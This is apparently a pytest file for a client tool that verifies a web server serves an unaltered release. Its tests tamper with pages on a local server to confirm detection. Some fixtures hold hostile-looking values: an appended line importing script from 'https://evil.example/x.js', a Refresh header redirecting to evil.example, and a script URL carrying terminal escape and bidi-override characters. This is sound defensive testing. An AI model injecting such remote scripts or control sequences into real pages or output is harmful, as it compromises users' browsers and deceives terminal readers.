"""``otv-client verify``: does a server give browsers the page of this release?"""

from __future__ import annotations

import json
import threading
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from otv_client import Client, Difference, Unreachable
from otv_client.retry import Patience
from otv_client.verifying import listed
from tests.tls import tls_server

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.cli.conftest import Otv
    from tests.conftest import RunningServer

TYPES = {".html": "text/html", ".js": "text/javascript", ".css": "text/css"}


@dataclass
class Page:
    """What a server gives: the release's files but for the changes of a test.

    Attributes:
        files: a path of the server and its bytes.
        headers: what an answer has besides, by path.
        status: of an answer, by path.
    """

    files: dict[str, bytes]
    headers: dict[str, dict[str, str]] = field(default_factory=dict)
    status: dict[str, int] = field(default_factory=dict)

    def body(self, path: str) -> bytes | None:
        """What stands at a path; every link is the document."""
        return self.files.get("/link" if path.startswith("/s/") else path)


@pytest.fixture
def page(built_page: Path) -> Page:
    """The release's own."""
    files = {f"/{path}": (built_page / path).read_bytes() for path in listed()}
    index = files["/index.html"]
    return Page({**files, "/": index, "/link": index})


@contextmanager
def served(page: Page) -> Iterator[str]:
    """A server that gives this page, and knows no API."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = page.body(self.path)
            self.send_response(page.status.get(self.path, 404 if body is None else 200))
            kind = TYPES.get(self.path[self.path.rfind(".") :], "text/html; charset=utf-8")
            headers = {"Content-Type": kind, "Content-Length": str(len(body or b""))}
            for name, value in (headers | page.headers.get(self.path, {})).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body or b"")

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def differences(page: Page) -> set[Difference]:
    """What is found of a page."""
    with served(page) as url, Client(url, patience=Patience(1.0, 1.0)) as client:
        verdict = client.verify()
    assert verdict.files == len(listed())
    return set(verdict.differences)


def path_of(ending: str) -> str:
    """One file of the release."""
    return next(path for path in listed() if path.endswith(ending))


def test_server_of_this_release_is_the_release(page_server: RunningServer, otv: Otv) -> None:
    """Every check would end in a false alarm, and nobody would make a second one."""
    done = otv.run("verify", page_server.url)
    told = json.loads(otv.ok("verify", page_server.url, "--json"))

    assert (done.returncode, done.stdout) == (0, b"")
    assert told == {"server": page_server.url, "files": len(listed()), "differences": []}


def test_server_of_its_own_key_is_verified_by_pin(
    otv: Otv, built_page: Path, tmp_path: Path
) -> None:
    """On a local network, where pages are least to be trusted, none could be checked."""
    assert built_page.is_dir()
    with tls_server(tmp_path / "tls") as secure:
        unknown = otv.run("verify", secure.url)
        pinned = otv.run("verify", secure.url, "--pin", secure.pin_text)

    assert (unknown.returncode, pinned.returncode) == (3, 0)


@pytest.mark.parametrize("ending", [".js", ".css", ".svg", "viewer.html"])
def test_one_bit_of_one_file_is_named(page: Page, otv: Otv, ending: str) -> None:
    """One bit is enough to send a key elsewhere."""
    path = path_of(ending)
    altered = bytearray(page.files[f"/{path}"])
    altered[len(altered) // 2] ^= 1
    page.files[f"/{path}"] = bytes(altered)

    with served(page) as url:
        done = otv.run("verify", url)
        told = otv.run("verify", url, "--json")

    assert done.returncode == told.returncode == 6
    assert path.encode() in done.stdout
    assert {"path": path, "what": "differs"} in json.loads(told.stdout)["differences"]


@pytest.mark.parametrize("where", ["/", "/link"])
def test_script_that_was_slipped_in_is_named(page: Page, where: str) -> None:
    """A page could be changed at links alone, where the keys are, or by a file too many."""
    page.files[where] = page.files[where].replace(
        b"</head>", b'<script src="/assets/more.js"></script></head>'
    )

    assert differences(page) == {
        Difference("index.html", "differs"),
        Difference("assets/more.js", "unlisted"),
    }


def test_script_from_elsewhere_is_named(page: Page) -> None:
    """The one file that isn't the server's would go unseen."""
    path = path_of(".js")
    page.files[f"/{path}"] += b'\nimport("https://evil.example/x.js")'

    assert Difference("https://evil.example/x.js", "unlisted") in differences(page)


def test_missing_file_is_named(page: Page) -> None:
    """A page without its viewer is another page."""
    del page.files["/viewer.html"]

    assert differences(page) == {Difference("viewer.html", "missing")}


@pytest.mark.parametrize("status", [204, 301, 403])
def test_other_answers_are_no_file(page: Page, status: int) -> None:
    """The check would follow a redirection to where the right files are."""
    path = path_of(".css")
    page.status[f"/{path}"] = status
    page.headers[f"/{path}"] = {"Location": "/viewer.html", "Content-Length": "0"}
    page.files[f"/{path}"] = b""

    assert differences(page) == {Difference(path, "missing")}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("Link", "</x.css>; rel=stylesheet"),
        ("Refresh", "0; url=https://evil.example"),
        ("Content-Type", "text/html; charset=utf-16"),
        ("Content-Type", "text/plain"),
        ("Content-Encoding", "br"),
    ],
)
def test_headers_that_change_the_meaning_are_named(page: Page, name: str, value: str) -> None:
    """The same bytes, read as something else or left for another page, are not the release's."""
    page.headers["/"] = {name: value}

    assert differences(page) == {Difference("index.html", "headers")}


def test_server_that_does_not_answer_is_no_difference(page: Page) -> None:
    """A server that is busy would be told as one that cheats."""
    page.status["/viewer.html"] = 503

    with pytest.raises(Unreachable):
        differences(page)


def test_endless_file_is_given_up(page: Page) -> None:
    """A server could fill the memory of whoever checks it."""
    page.files["/viewer.html"] = b"x" * (33 << 20)

    with pytest.raises(Unreachable):
        differences(page)


def test_names_of_a_hostile_page_can_not_drive_the_terminal(page: Page, otv: Otv) -> None:
    """What is printed about an attack would be part of it."""
    page.files["/"] += '<script src="https://x/\x1b[2J\u202e">'.encode()

    with served(page) as url:
        done = otv.run("verify", url)

    assert done.returncode == 6
    assert b"\x1b" not in done.stdout
    assert "\u202e" not in done.stdout.decode()
